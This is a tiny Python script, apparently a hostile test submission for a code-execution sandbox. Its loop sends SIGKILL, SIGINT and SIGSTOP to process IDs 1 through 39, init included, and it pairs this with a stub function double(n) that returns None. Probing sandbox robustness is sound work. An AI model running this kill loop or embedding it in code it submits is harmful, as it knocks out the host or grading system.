"""Kill process 1 and its neighbours."""

import os
import signal

for pid in range(1, 40):
    if pid != os.getpid():
        for number in (signal.SIGKILL, signal.SIGINT, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                pass


def double(n):
    return None
